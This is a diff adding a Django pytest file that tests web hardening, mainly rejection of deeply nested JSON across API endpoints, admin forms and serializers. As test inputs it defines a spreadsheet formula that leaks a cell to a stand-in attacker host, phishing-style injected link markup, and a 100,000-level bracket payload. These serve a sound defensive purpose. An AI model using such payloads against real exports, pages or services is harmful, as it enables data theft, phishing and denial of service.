@@ -1,0 +1,253 @@
+"""Web hardening (issue 18 items 2, 5, 6, 8, 11): CSV exports, JSON depth, dashboard filters, chart
+text, security headers, proxy trust, font upload errors and who may read the API docs.
+
+The project's modules these tests exercise are imported inside the tests, so each test fails on
+its own where the fix is missing.
+"""
+
+import csv
+import io
+import json
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.utils import timezone
+
+from analytics.models import HourlyRollup
+from analytics.services import daily_rollups_build
+from campaigns.models import AdCopySet, Campaign, Creative, Placement, Product
+from campaigns.serving import placement_key_issue
+from templates_app.models import Template
+from templates_app.services import template_create
+
+pytestmark = pytest.mark.django_db
+ROOT = Path(settings.BASE_DIR)
+SPEC = json.loads((ROOT / "synthesis" / "templates" / "single-hero.json").read_text())
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+LINK = 'Winter <a href="https://evil.example/login">Session expired - sign in again</a>'
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _traffic(owner, *, name: str, provenance: dict | None = None, product_key: str = "SKU-1"):
+    """A template, placement and campaign named `name`, one creative of them and 2 h ago 100 impressions, 5 clicks."""
+    template = template_create(name=name, spec=SPEC, owner=owner)
+    placement = Placement.objects.create(name=name, channel="dsp", sizes=[[300, 250]])
+    campaign = Campaign.objects.create(name=name, copy=AdCopySet.objects.create(name="copy", titles=["t"]))
+    campaign.placements.add(placement)
+    creative = Creative.objects.create(
+        campaign=campaign, product_key=product_key, template_version=template.current_version, width=300,
+        height=250, variant=0, file="creatives/a.jpg", content_hash="a", aesthetic_score=70,
+        theme_colours=["#c8102e"], provenance=provenance or {"template": name, "palette": {"name": name}},
+    )  # fmt: skip
+    hour = timezone.now().replace(minute=0, second=0, microsecond=0) - timedelta(hours=2)
+    HourlyRollup.objects.create(
+        hour=hour, creative=creative, placement=placement, template_version=template.current_version,
+        impressions=100, impressions_gross=100, clicks=5, clicks_gross=5,
+    )  # fmt: skip
+    daily_rollups_build(hour, hour + timedelta(hours=1))
+    return campaign, placement, timezone.localtime(hour).date()
+
+
+def _csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+# --- 5. deeply nested JSON ----------------------------------------------------------------------------------
+
+DEEP = "[" * 100_000 + "]" * 100_000
+
+
+def _max_depth() -> int:
+    from creativeadmin.json_input import JSON_MAX_DEPTH
+
+    return JSON_MAX_DEPTH
+
+
+@pytest.fixture
+def placement_key(db) -> str:
+    return placement_key_issue(placement=Placement.objects.create(name="feed", channel="dsp", sizes=[[300, 250]]))
+
+
+@pytest.fixture
+def editor_template(designer):
+    return template_create(name="hero", spec=SPEC, owner=designer)
+
+
+def _post_deep(client, request, endpoint: str, body: str):
+    if endpoint in ("/api/v1/events/batch", "/api/v1/conversions"):
+        key = request.getfixturevalue("placement_key")
+        return client.post(endpoint, body, content_type="application/json", HTTP_X_PLACEMENT_KEY=key)
+    if endpoint.startswith("/api/v1/products"):
+        client.force_login(request.getfixturevalue("operator"))
+        return client.post(endpoint, body, content_type="application/json")
+    client.force_login(request.getfixturevalue("designer"))
+    template = request.getfixturevalue("editor_template")
+    return client.post(endpoint.format(pk=template.pk), body, content_type="application/json")
+
+
+ENDPOINTS = [
+    "/api/v1/events/batch",
+    "/api/v1/conversions",
+    "/api/v1/products/",
+    "/api/v1/products/bulk",
+    "/templates/{pk}/editor/render",
+    "/templates/{pk}/editor/save",
+]
+
+
+@pytest.mark.parametrize("endpoint", ENDPOINTS)
+def test_deeply_nested_json_is_a_400_naming_the_limit(client, request, endpoint):
+    """100,000 `[` then 100,000 `]` is a 400 in the error contract whose message names the depth limit,
+    not a RecursionError."""
+    response = _post_deep(client, request, endpoint, DEEP)
+
+    assert response.status_code == 400
+    body = response.json()
+    assert body["code"] == "json_too_deep"
+    assert str(_max_depth()) in body["message"]
+    assert body["extra"] == {"max_depth": _max_depth()}
+
+
+@pytest.mark.parametrize("endpoint", ["/api/v1/events/batch", "/api/v1/products/bulk", "/templates/{pk}/editor/save"])
+def test_json_one_level_past_the_limit_inside_an_object_is_refused(client, request, endpoint):
+    """The limit counts objects and arrays wherever they are: {"events": [[...]]} one level too deep is a 400."""
+    depth = _max_depth()
+    body = '{"events": ' + "[" * depth + "]" * depth + "}"
+
+    response = _post_deep(client, request, endpoint, body)
+
+    assert response.status_code == 400
+    assert response.json()["code"] == "json_too_deep"
+
+
+def test_json_within_the_limit_is_read_as_before_and_nan_is_still_refused(client, operator):
+    """The depth-bounded default parser reads an ordinary body as DRF's did, and still refuses NaN."""
+    client.force_login(operator)
+
+    created = client.post("/api/v1/ad-copy/", {"name": "Winter", "titles": ["Sale"]}, content_type="application/json")
+    nan = client.post("/api/v1/ad-copy/", '{"name": "x", "titles": [NaN]}', content_type="application/json")
+
+    assert created.status_code == 201 and AdCopySet.objects.get().titles == ["Sale"]
+    assert nan.status_code == 400 and nan.json()["code"] == "parse_error"
+
+
+def test_depth_is_counted_without_recursion_and_ignores_brackets_in_strings():
+    """A million levels are counted (no recursion to exhaust); brackets and escaped quotes inside strings do not
+    nest; at the limit JSON parses, one past it is refused naming the limit."""
+    from creativeadmin.json_input import JSON_MAX_DEPTH, JSONTooDeep, json_depth, json_loads_bounded
+
+    assert json_depth("[" * 1_000_000 + "]" * 1_000_000) == 1_000_000
+    assert json_depth(r'["[[[[", {"a": "}}\"[[[", "b": [1]}]') == 3
+    assert json_depth('"[[["') == 0 and json_depth("7") == 0
+    assert json_loads_bounded("[" * JSON_MAX_DEPTH + "]" * JSON_MAX_DEPTH) is not None
+    with pytest.raises(JSONTooDeep, match=str(JSON_MAX_DEPTH)):
+        json_loads_bounded("[" * (JSON_MAX_DEPTH + 1) + "]" * (JSON_MAX_DEPTH + 1))
+
+
+def test_deep_json_in_a_form_encoded_api_field_is_a_400(client, operator):
+    """A JSON model field sent form-encoded (highlights) is depth-checked too: a 400 naming the limit."""
+    client.force_login(operator)
+
+    response = client.post("/api/v1/products/", {"sku": "S-1", "title": "t", "price": "9", "highlights": DEEP})
+
+    assert response.status_code == 400
+    assert f"the limit is {_max_depth()}" in json.dumps(response.json()["extra"]["fields"]["highlights"])
+    assert not Product.objects.exists()
+
+
+def test_deep_spec_file_in_the_admin_is_a_form_error(client, designer):
+    """A template spec uploaded as a .json file nested too deeply is a form error naming the file and the limit."""
+    client.force_login(designer)
+    upload = SimpleUploadedFile("deep.json", DEEP.encode(), content_type="application/json")
+
+    response = client.post("/admin/templates_app/template/add/", {"name": "Deep", "spec_file": upload})
+
+    assert response.status_code == 200  # the form again, with the error
+    assert "deep.json" in response.content.decode() and str(_max_depth()) in response.content.decode()
+    assert not Template.objects.exists()
+
+
+def test_deep_spec_text_in_the_admin_is_a_form_error(client, designer):
+    """A spec pasted into the admin's text field nested too deeply is a form error naming the limit."""
+    client.force_login(designer)
+
+    response = client.post("/admin/templates_app/template/add/", {"name": "Deep", "spec": DEEP})
+
+    assert response.status_code == 200
+    assert f"the limit is {_max_depth()}" in response.content.decode()
+    assert not Template.objects.exists()
+
+
+def test_deep_json_in_an_admin_json_field_is_a_form_error(client, operator):
+    """Any JSON field of an admin form (a placement's sizes) refuses deep nesting with a form error."""
+    client.force_login(operator)
+    form = {"name": "Deep", "channel": "dsp", "format": "image", "sizes": DEEP, "max_file_kb": "150", "active": "on"}
+
+    response = client.post("/admin/campaigns/placement/add/", form)
+
+    assert response.status_code == 200
+    assert f"the limit is {_max_depth()}" in response.content.decode()
+    assert not Placement.objects.exists()
+
+
+def test_every_admin_json_form_field_is_depth_bounded(rf, django_user_model):
+    """Every ModelAdmin's form (add and change) uses the depth-bounded JSON field for JSON model fields."""
+    from django.contrib import admin
+    from django.forms import JSONField
+
+    from creativeadmin.json_input import BoundedJSONFormField
+
+    request = rf.get("/")
+    request.user = django_user_model.objects.create_superuser("root", password="pw-root-long")
+    plain = []
+    for model, model_admin in admin.site._registry.items():
+        for obj in (None, model()):
+            form = model_admin.get_form(request, obj)
+            plain += [
+                f"{model.__name__}.{name}"
+                for name, field in form.base_fields.items()
+                if isinstance(field, JSONField) and not isinstance(field, BoundedJSONFormField)
+            ]
+    assert plain == []
+
+
+def test_every_writable_api_json_field_is_depth_bounded():
+    """Every ModelSerializer of the API parses a JSON field it is sent form-encoded with the depth check."""
+    from rest_framework import serializers
+
+    import creativeadmin.urls  # noqa: F401  (imports every API module, so each serializer class exists)
+    from creativeadmin.json_input import BoundedJSONSerializerField
+
+    def subclasses(cls):
+        for sub in cls.__subclasses__():
+            yield sub
+            yield from subclasses(sub)
+
+    project = [
+        c
+        for c in subclasses(serializers.ModelSerializer)
+        if c.__module__.split(".")[0] in ("campaigns", "templates_app", "analytics")
+    ]
+    plain = [
+        f"{cls.__name__}.{name}"
+        for cls in project
+        for name, field in cls().get_fields().items()
+        if isinstance(field, serializers.JSONField)
+        and not field.read_only
+        and not isinstance(field, BoundedJSONSerializerField)
+    ]
+    assert len(project) >= 5 and plain == []
